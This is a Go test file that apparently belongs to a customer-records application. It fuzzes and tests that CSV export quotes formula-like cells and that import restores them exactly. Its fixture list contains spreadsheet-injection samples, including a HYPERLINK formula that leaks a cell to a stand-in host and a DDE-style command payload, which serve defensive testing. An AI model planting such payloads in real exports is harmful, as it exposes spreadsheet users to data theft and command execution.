package data

import (
	"bytes"
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"tend/lifecycle"
)

// hostileCells are texts a spreadsheet would take for a formula, texts
// that look like one but are plain numbers, and texts that begin with the
// quote that neutralises a formula.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "+49 30 1234567", "-12.50", "'s-Hertogenbosch",
	"@SUM(A1)", "\tTab", "\rReturn", "'=already quoted", "''=twice quoted", "'-12.50", "-cmd|' /C calc'!A0",
	"+Plus", "-", "=", "'", "''",
}

// Each text is exported as its cell, and the cell imports as the text.
func TestCellsThatReadAsFormulasAreQuoted(t *testing.T) {
	cases := []struct{ text, cell string }{
		{`=HYPERLINK("x")`, `'=HYPERLINK("x")`},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"+Plus", "'+Plus"},
		{"-cmd|' /C calc'", "'-cmd|' /C calc'"},
		{"\tTab", "'\tTab"},
		{"\rReturn", "'\rReturn"},
		{"-", "'-"},
		{"'=quoted", "''=quoted"},
		{"'-12.50", "''-12.50"},
		{"''", "'''"},
		// Numbers, amounts and phone numbers stay as they are.
		{"+49 30 1234567", "+49 30 1234567"},
		{"+49 (0)30 123-45/67.8", "+49 (0)30 123-45/67.8"},
		{"-12.50", "-12.50"},
		{"2026-03-10T09:30:00Z", "2026-03-10T09:30:00Z"},
		// A quote before anything else is part of the text.
		{"'s-Hertogenbosch", "'s-Hertogenbosch"},
		{"O'Brien", "O'Brien"},
		{"'", "'"},
		{"Ada = Lovelace", "Ada = Lovelace"},
		{"", ""},
	}
	for _, c := range cases {
		if got := spreadsheetCell(c.text); got != c.cell {
			t.Errorf("spreadsheetCell(%q) = %q, want %q", c.text, got, c.cell)
		}
		if got := cellText(c.cell); got != c.text {
			t.Errorf("cellText(%q) = %q, want %q", c.cell, got, c.text)
		}
	}
}

// FuzzCellQuoting checks that what the importer reads of any exported cell
// is the cell, and that no exported cell starts a formula.
func FuzzCellQuoting(f *testing.F) {
	for _, s := range hostileCells {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := spreadsheetCell(s)
		if back := cellText(out); back != s {
			t.Fatalf("%q exported as %q imports as %q", s, out, back)
		}
		if startsFormula(out) && !plainNumber(out) {
			t.Fatalf("%q exported as %q, which a spreadsheet reads as a formula", s, out)
		}
	})
}

// hostileBook is a book whose customers, contacts and purchases hold the
// hostile cells in every text field that takes them.
func hostileBook(t *testing.T) *Book {
	t.Helper()
	ctx := context.Background()
	b := openTestBook(t)
	for i, s := range hostileCells {
		tag := strings.NewReplacer("\t", "", "\r", "", ",", "", ";", "").Replace(s)
		id := addCustomer(t, b, lifecycle.Customer{Name: s + " " + strings.Repeat("x", i), Company: s, Phone: s, Owner: s,
			Tags: []string{tag}, CreatedAt: dayUTC(2025, 1, 1)})
		at := dayUTC(2025, 2, 1).Add(time.Duration(i) * time.Hour)
		if _, err := b.LogContact(ctx, lifecycle.Contact{CustomerID: id, At: at, Kind: lifecycle.Call,
			Direction: lifecycle.Out, Sentiment: lifecycle.Neutral, Summary: s + " " + strings.Repeat("y", i)}); err != nil {
			t.Fatal(err)
		}
		if _, err := b.AddPurchase(ctx, lifecycle.Purchase{CustomerID: id, At: at, Amount: 1250, Note: s}); err != nil {
			t.Fatal(err)
		}
	}
	return b
}

// An export of formula-like text carries no formula a spreadsheet would
// run, and imports into another book exactly as it was.
func TestFormulasExportQuotedAndImportExactly(t *testing.T) {
	src, dst := hostileBook(t), openTestBook(t)
	exported := map[Entity][]byte{}
	for _, what := range Entities {
		exported[what] = exportWithoutFormulas(t, src, what)
		if _, err := dst.Import(context.Background(), what, bytes.NewReader(exported[what]), ImportOptions{File: string(what) + ".csv"}); err != nil {
			t.Fatalf("import %s: %v", what, err)
		}
	}
	phones := csvRows(t, exported[Customers])
	if phones[1][4] != `'`+hostileCells[0] || phones[2][4] != "+49 30 1234567" {
		t.Errorf("phones exported as %q and %q", phones[1][4], phones[2][4])
	}
	for _, what := range Entities {
		checkSameRows(t, what, csvRows(t, exported[what], "updated_at"), csvRows(t, exportCSV(t, dst, what), "updated_at"))
	}
	for i, s := range hostileCells {
		// A customer's fields are stored trimmed, a leading tab too.
		c, want := customerNamed(t, dst, strings.TrimSpace(s+" "+strings.Repeat("x", i))), strings.TrimSpace(s)
		if c.Company != want || c.Owner != want || c.Phone != want {
			t.Errorf("customer %d came back as %q · %q · %q, want %q", i+1, c.Company, c.Owner, c.Phone, want)
		}
	}
}

// exportWithoutFormulas exports what as CSV and checks that no cell of it
// starts a formula, a plain number aside.
func exportWithoutFormulas(t *testing.T, b *Book, what Entity) []byte {
	t.Helper()
	file := exportCSV(t, b, what)
	for _, row := range csvRows(t, file) {
		for _, cell := range row {
			if startsFormula(cell) && !plainNumber(cell) {
				t.Errorf("%s: cell %q starts a formula", what, cell)
			}
		}
	}
	return file
}

// checkSameRows compares two exports of what line by line.
func checkSameRows(t *testing.T, what Entity, before, after [][]string) {
	t.Helper()
	for i := range max(len(before), len(after)) {
		if i >= len(before) || i >= len(after) || !slices.Equal(before[i], after[i]) {
			t.Errorf("%s line %d:\n exported %q\n again    %q", what, i+1, at(before, i), at(after, i))
		}
	}
}

// A file another program wrote with quoted formulas imports as the texts
// they stand for, a quote that belongs to the text left as it is.
func TestImportReadsQuotedFormulasAsText(t *testing.T) {
	b := openTestBook(t)
	mustImportText(t, b, Customers, "Name,Company,Phone\n's-Hertogenbosch,'=Firma,'+49 30 1234567\n", ImportOptions{})
	mustImportText(t, b, Purchases, "Customer,Date,Amount,Note\n's-Hertogenbosch,2026-01-05,'-12.50,'@refund\n", ImportOptions{})
	c := customerNamed(t, b, "'s-Hertogenbosch")
	if c.Company != "=Firma" || c.Phone != "+49 30 1234567" || c.TotalSpend != -1250 {
		t.Errorf("imported %q · %q · %q, spent %s", c.Name, c.Company, c.Phone, c.TotalSpend)
	}
	var out bytes.Buffer
	if _, err := b.Export(context.Background(), Purchases, CSV, &out); err != nil || !strings.HasSuffix(out.String(), ",-12.50,EUR,'@refund,\n") {
		t.Errorf("purchases export again as %q, %v", out.String(), err)
	}
}
